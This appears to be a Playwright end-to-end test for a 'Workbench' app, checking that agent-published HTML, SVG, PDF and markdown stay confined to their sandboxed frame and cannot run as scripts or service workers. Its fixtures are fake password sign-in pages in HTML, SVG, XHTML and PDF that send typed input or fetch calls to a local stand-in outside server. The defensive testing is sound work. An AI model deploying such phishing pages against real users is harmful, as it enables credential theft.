/**
 * What an agent wrote is shown in its frame in the Workbench and nowhere else at its address: not
 * as a page of its own, however someone is led there, and not in anyone else's page.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { BrowserContext, Page, Request } from "playwright-core";
import { until } from "../support/until.ts";
import { type Setting, useSetting } from "./setting.ts";

/** Seen only where the content itself is. */
const FAKE = "Sign in to go on";

function signIn(away: string): string {
  return `<title>svc</title><h1>${FAKE}</h1><form action="${away}/form" method="post"><input name="password"></form>
<script>document.forms[0].onchange = () => { location = "${away}/typed"; };
navigator.serviceWorker?.register(location.href).then(() => fetch("${away}/worker"), () => undefined);</script>`;
}

function drawing(away: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="90"><a href="${away}/link"><text y="40">${FAKE}</text></a>
<foreignObject width="400" height="90"><form xmlns="http://www.w3.org/1999/xhtml" action="${away}/form"><input name="password"/></form></foreignObject>
<script>fetch("${away}/script")</script></svg>`;
}

/** One page with a field and a button that sends it. */
function pdf(away: string): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R 6 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 4 0 R >> >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Annots [5 0 R 6 0 R] /Resources << /Font << /F1 4 0 R >> >> >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (password) /Rect [20 300 380 380] /F 4 /P 3 0 R /DA (/F1 24 Tf 0 g) >>",
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /Rect [0 0 400 280] /F 4 /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (${away}/pdf) >> /Flags 4 >> >>`,
  ].map((body, at) => `${at + 1} 0 obj\n${body}\nendobj\n`);
  return Buffer.from(`%PDF-1.7\n${objects.join("")}trailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}

describe("Workbench: what others wrote at its address", () => {
  let setting: Setting;
  let groupId: string;
  let outside: Server;
  let away: string;
  let origin: string;
  let page: Page;
  let context: BrowserContext;
  /** What each slot shows. */
  const slots = ["html", "svg", "pdf", "markdown"] as const;
  const files: { name: string; address: string }[] = [];
  const reached: string[] = [];
  const address = (slot: number) => `${origin}/api/v1/groups/${groupId}/presentations/${slot}/content`;
  const addresses = () => [
    ...slots.map((name, at) => ({ name, address: `${address(at + 1)}#toolbar=0` })),
    ...files,
  ];

  useSetting((opened) => {
    setting = opened;
  });

  before(async function () {
    this.timeout(120_000);
    outside = createServer((request, response) => {
      const { pathname, searchParams } = new URL(request.url ?? "", "http://outside");
      const there = searchParams.get("there") ?? "";
      const bodies: Record<string, string> = {
        "/frames": `<iframe src="${there}"></iframe><object data="${there}"></object><embed src="${there}">`,
      };
      response.setHeader("Content-Type", "text/html");
      if (pathname === "/redirect") response.writeHead(302, { location: there });
      else if (bodies[pathname] === undefined && pathname !== "/favicon.ico") reached.push(request.url ?? "");
      response.end(bodies[pathname] ?? "");
    });
    await new Promise<void>((resolve) => {
      outside.listen(0, "127.0.0.1", resolve);
    });
    away = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
    const group = await setting.group("shown", ["lead"]);
    ({ groupId } = group);
    origin = await setting.origin();
    const lead = group.actors["lead"]!;
    const project = mkdtempSync(join(tmpdir(), "svc-project-"));
    try {
      await setting.owner.result("attach", { path: project, group_id: groupId });
      writeFileSync(join(project, "sign-in.pdf"), pdf(away));
      const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>${FAKE}</h1><script>fetch("${away}/xhtml")</script></body></html>`;
      writeFileSync(join(project, "sign-in.xhtml"), xhtml);
      writeFileSync(join(project, "sign-in.html"), signIn(away));
      writeFileSync(join(project, "sign-in.svg"), drawing(away));
      const given = { group_id: groupId, title: "Report" };
      await lead.result("presentation_publish", { ...given, slot: 1, kind: "html", text: signIn(away) });
      await lead.result("presentation_publish", { ...given, slot: 2, kind: "image", text: drawing(away) });
      await lead.result("presentation_publish", { ...given, slot: 3, kind: "pdf", path: "sign-in.pdf" });
      await lead.result("presentation_publish", { ...given, slot: 4, kind: "markdown", text: `# ${FAKE}` });
      const names = ["sign-in.xhtml", "sign-in.html", "sign-in.svg", "sign-in.pdf"];
      const { event } = await lead.result("send", {
        group_id: groupId,
        text: `Look at [the report](${address(1)})`,
        to: ["user"],
        paths: names,
      });
      const types = ["application/xhtml+xml", "text/html", "image/svg+xml", "image/png"];
      for (const [at, { sha256, name }] of event.data.attachments.entries())
        files.push({
          name: `file ${name} as ${types[at]}`,
          address: `${origin}/api/v1/groups/${groupId}/blobs/${sha256}?name=${name}&type=${encodeURIComponent(types[at]!)}`,
        });
    } finally {
      rmSync(project, { recursive: true, force: true });
    }
    const window = await setting.window({ expected: /./ });
    ({ page, context } = window);
    await page.getByText("shown").first().waitFor();
  });
  after(() => void outside.close());

  /** What every page and frame but the Workbench itself shows. */
  async function seen(): Promise<string> {
    const frames = context.pages().flatMap((one) => (one === page ? [] : one.frames()));
    const texts = await Promise.all(
      frames.map((frame) =>
        frame
          .evaluate(() => `${document.contentType} ${document.documentElement.textContent}`)
          .catch(() => ""),
      ),
    );
    return texts.join("\n");
  }

  async function closeOthers(): Promise<void> {
    for (const one of context.pages()) if (one !== page) await one.close();
  }

  it("is no page of its own and in nobody else's, however someone is led there", async function () {
    this.timeout(400_000);
    for (const { address: there, name } of addresses()) {
      let ended = 0;
      const asked = there.split("#")[0]!;
      const count = (request: Request) => void (ended += request.url().startsWith(asked) ? 1 : 0);
      context.on("requestfinished", count).on("requestfailed", count);
      const tab = await context.newPage();
      await tab.goto(`${away}/frames?there=${encodeURIComponent(there)}`);
      await tab.evaluate(
        ({ to, by }) => {
          open(to);
          open(to, "", "noopener,width=400,height=400");
          open(by);
          const link = Object.assign(document.createElement("a"), {
            href: to,
            target: "_blank",
            rel: "noopener",
          });
          document.body.append(link);
          link.click();
          link.dispatchEvent(new MouseEvent("click", { ctrlKey: true, bubbles: true }));
        },
        { to: there, by: `${away}/redirect?there=${encodeURIComponent(there)}` },
      );
      const typed = await context.newPage();
      await typed.goto(there).catch(() => undefined);
      // A frame, an object, an embedded one, five that were opened, one that was typed.
      await until(`all have their answer: ${name}`, async () => ended >= 8, 120_000);
      assert.doesNotMatch(await seen(), new RegExp(`${FAKE}|application/pdf`), name);
      context.off("requestfinished", count).off("requestfailed", count);
      await closeOthers();
    }
    assert.deepEqual(reached, []);
  });

  it("is neither a script nor a service worker of the Workbench", async () => {
    for (const { address: there, name } of addresses()) {
      const ends = await page.evaluate(async (url) => {
        const script = document.createElement("script");
        const run = new Promise((resolve) => {
          script.onload = () => resolve("ran");
          script.onerror = () => resolve("refused");
        });
        script.src = url;
        document.head.append(script);
        const worker = navigator.serviceWorker.register(url).then(
          () => "registered",
          () => "refused",
        );
        return Promise.all([run, worker]);
      }, there);
      assert.deepEqual(ends, ["refused", "refused"], name);
    }
  });

  it("leads from the address to the Workbench, where a link in a message ends as well", async () => {
    await page.goto(`${origin}/?group=${groupId}`);
    const [tab] = await Promise.all([
      context.waitForEvent("page", { timeout: 60_000 }),
      page.locator("svc-message a", { hasText: "the report" }).click(),
    ]);
    await tab.getByRole("heading", { name: "This is shown in the Workbench" }).waitFor({ timeout: 60_000 });
    assert.doesNotMatch(await seen(), new RegExp(FAKE));
    await tab.getByRole("link", { name: "Open it there" }).click();
    const inside = tab.frameLocator("svc-presentations iframe").locator("h1");
    await inside.waitFor({ timeout: 60_000 });
    assert.equal(await inside.textContent(), FAKE);
    assert.deepEqual(reached, []);
    await tab.close();
  });

  it("has no scripts for a browser that doesn't say where it shows it", async () => {
    const cookies = (await context.cookies(origin)).map(({ name, value }) => `${name}=${value}`).join("; ");
    const policies = await Promise.all(
      slots.map(async (_name, at) => {
        const answer = await fetch(address(at + 1), { headers: { cookie: cookies } });
        assert.equal(answer.status, 200);
        return [answer.headers.get("content-disposition"), answer.headers.get("content-security-policy")];
      }),
    );
    const still = "sandbox; default-src 'none'; style-src 'unsafe-inline'";
    assert.deepEqual(policies, [
      ["inline", still],
      ["inline", still],
      ["attachment", still],
      ["attachment", still],
    ]);
  });
});
